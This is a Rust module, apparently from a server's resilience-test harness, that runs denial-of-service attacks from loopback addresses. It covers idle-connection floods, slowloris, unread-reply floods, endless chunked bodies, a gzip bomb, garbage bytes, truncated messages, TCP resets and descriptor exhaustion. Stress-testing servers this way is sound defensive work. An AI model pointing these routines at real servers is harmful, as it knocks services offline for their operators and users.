//! What is done to the server, each from OS processes of its own.

use std::io::{self, Read, Write, stdin};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use socket2::{Domain, SockRef, Socket, Type};

/// One way to do harm.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) about: &'static str,
    /// How many connections take part.
    pub(super) count: usize,
    /// How many OS processes share them, each at a loopback address of its own.
    pub(super) attackers: usize,
    /// How many descriptors the server may have.
    pub(super) descriptors: usize,
    pub(super) run: fn(Aim, usize),
}

/// Where an attack goes, and from where.
#[derive(Clone, Copy)]
pub(super) struct Aim {
    pub(super) server: SocketAddr,
    pub(super) from: Ipv4Addr,
}

impl Attack {
    const fn new(
        name: &'static str,
        count: usize,
        about: &'static str,
        run: fn(Aim, usize),
    ) -> Self {
        Self {
            name,
            about,
            count,
            attackers: 1,
            descriptors: 20_000,
            run,
        }
    }

    /// With four attackers.
    const fn with_many_attackers(self) -> Self {
        Self {
            attackers: 4,
            ..self
        }
    }
}

pub(super) const ALL: &[Attack] = &[
    Attack::new("none", 0, "nothing is done", idle),
    Attack::new("idle", 10_000, "connections that say nothing", idle).with_many_attackers(),
    Attack::new(
        "idle-peers",
        10_000,
        "connections of one message",
        idle_peers,
    )
    .with_many_attackers(),
    Attack::new(
        "slow-loris",
        2_000,
        "heads by the byte, ten a second",
        slow_loris,
    ),
    Attack::new("deaf", 20, "requests, and no answer is read", deaf),
    Attack::new(
        "deaf-peer",
        20,
        "messages, and no answer is read",
        deaf_peer,
    ),
    Attack::new("endless-body", 20, "bodies without end", endless_body),
    Attack::new(
        "gzip-bomb",
        20,
        "bodies that grow a thousandfold",
        gzip_bomb,
    ),
    Attack::new("garbage", 20, "bytes at random, again and again", garbage),
    Attack::new(
        "half-messages",
        20,
        "messages that break off",
        half_messages,
    ),
    Attack::new("resets", 20, "resets in every state", resets),
    Attack {
        descriptors: 300,
        ..Attack::new(
            "descriptors",
            600,
            "more than a server of 300 can take",
            idle,
        )
    },
];

/// Says that the attack goes on, and waits for its end.
fn hold(all: Vec<TcpStream>) {
    println!("ready");
    drop(stdin().read_line(&mut String::new()));
    drop(all);
}

impl Aim {
    fn connect(self) -> TcpStream {
        loop {
            // A server that is short of descriptors may refuse.
            match self.try_connect() {
                Ok(stream) => return stream,
                Err(_) => thread::sleep(Duration::from_millis(10)),
            }
        }
    }

    fn try_connect(self) -> io::Result<TcpStream> {
        let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
        // A port that was picked by a bind is gone for a minute after its connection, and floods
        // have no more of them than others; so they stay where everybody is.
        if self.from != Ipv4Addr::LOCALHOST {
            socket.bind(&SocketAddr::from((self.from, 0)).into())?;
        }
        socket.connect(&self.server.into())?;
        Ok(socket.into())
    }
}

fn all(aim: Aim, count: usize) -> Vec<TcpStream> {
    (0..count).map(|_| aim.connect()).collect()
}

fn idle(aim: Aim, count: usize) {
    hold(all(aim, count));
}

fn idle_peers(aim: Aim, count: usize) {
    let all = all(aim, count);
    for mut stream in &all {
        stream.write_all(MESSAGE).expect("it is taken");
    }
    hold(all);
}

/// Whoever is told that it took too long begins anew.
fn slow_loris(aim: Aim, count: usize) {
    let begin = || {
        let mut stream = aim.connect();
        // If that fails, so does the next byte.
        drop(stream.write_all(b"GET / HTTP/1.1\r\nA: "));
        stream
    };
    let mut all: Vec<TcpStream> = (0..count).map(|_| begin()).collect();
    println!("ready");
    loop {
        for stream in &mut all {
            if stream.write_all(b"a").is_err() {
                *stream = begin();
            }
        }
        thread::sleep(Duration::from_millis(100));
    }
}

fn deaf(aim: Aim, count: usize) {
    let request = b"GET /victim/large HTTP/1.1\r\nHost: victim\r\n\r\n".repeat(100);
    flood(aim, count, &request);
}

fn deaf_peer(aim: Aim, count: usize) {
    flood(aim, count, &MESSAGE.repeat(100));
}

fn endless_body(aim: Aim, count: usize) {
    let head = b"POST /victim/small HTTP/1.1\r\nHost: victim\r\nTransfer-Encoding: chunked\r\n\r\n";
    let chunk = [b"10000\r\n", &[b'x'; 65_536][..], b"\r\n"].concat();
    each_at_once(count, move |_| {
        let mut stream = aim.connect();
        let mut go_on = stream.write_all(head);
        while go_on.is_ok() {
            go_on = stream.write_all(&chunk);
        }
    });
}

fn gzip_bomb(aim: Aim, count: usize) {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..256 {
        encoder.write_all(&[0; 1024 * 1024]).expect("memory");
    }
    let body = encoder.finish().expect("memory");
    let head = format!(
        "POST /victim/small HTTP/1.1\r\nHost: victim\r\nContent-Encoding: gzip\r\n\
         Content-Length: {}\r\n\r\n",
        body.len()
    );
    let bomb = [head.into_bytes(), body].concat();
    each_at_once(count, move |_| {
        let mut stream = aim.connect();
        if stream.write_all(&bomb).is_ok() {
            drain(stream);
        }
    });
}

fn garbage(aim: Aim, count: usize) {
    each_at_once(count, move |round| {
        let mut state = round | 1;
        let bytes: Vec<u8> = (0..4096)
            .map(|_| {
                state = state
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1);
                (state >> 56) as u8
            })
            .collect();
        let mut stream = aim.connect();
        if stream.write_all(&bytes).is_ok() {
            drain(stream);
        }
    });
}

fn half_messages(aim: Aim, count: usize) {
    each_at_once(count, move |round| {
        let part = &MESSAGE[..round as usize % MESSAGE.len()];
        // It may be refused before all of it was written.
        drop(aim.connect().write_all(part));
    });
}

/// Before a word, within a head, within a body, before the answer, and within it.
fn resets(aim: Aim, count: usize) {
    let states: [&[u8]; 5] = [
        b"",
        b"GET /victim/small HTTP/1.1\r\nHo",
        b"POST /victim/small HTTP/1.1\r\nHost: victim\r\nContent-Length: 99\r\n\r\nhalf",
        b"GET /victim/small HTTP/1.1\r\nHost: victim\r\n\r\n",
        b"GET /victim/large HTTP/1.1\r\nHost: victim\r\n\r\n",
    ];
    each_at_once(count, move |round| {
        let state = round as usize % states.len();
        let mut stream = aim.connect();
        let written = stream.write_all(states[state]);
        if written.is_ok() && state == states.len() - 1 {
            drop(stream.read(&mut [0; 1024]));
        }
        let lingers = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
        lingers.expect("a socket");
    });
}

/// Writes the same again and again, reads nothing, and begins anew when it is cut off.
fn flood(aim: Aim, count: usize, bytes: &[u8]) {
    let bytes = bytes.to_vec();
    each_at_once(count, move |_| {
        let mut stream = aim.connect();
        while stream.write_all(&bytes).is_ok() {}
    });
}

/// Lets so many threads do the same for ever, each with the number of the round.
fn each_at_once(count: usize, act: impl FnMut(u64) + Clone + Send + 'static) {
    for _ in 0..count {
        let mut act = act.clone();
        thread::spawn(move || {
            for round in 0.. {
                act(round);
            }
        });
    }
    hold(vec![]);
}

/// Reads until the server has had enough.
fn drain(mut stream: TcpStream) {
    let patience = stream.set_read_timeout(Some(Duration::from_secs(3)));
    patience.expect("a socket");
    let mut part = [0; 4096];
    while matches!(stream.read(&mut part), Ok(1..)) {}
}

const MESSAGE: &[u8] = b"POST /victim/hello HTTP/1.1\r\nUser-Agent: libprocess/x@127.0.0.1:9\r\n\
    Libprocess-From: x@127.0.0.1:9\r\nConnection: Keep-Alive\r\nHost: 127.0.0.1:1\r\n\
    Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n";
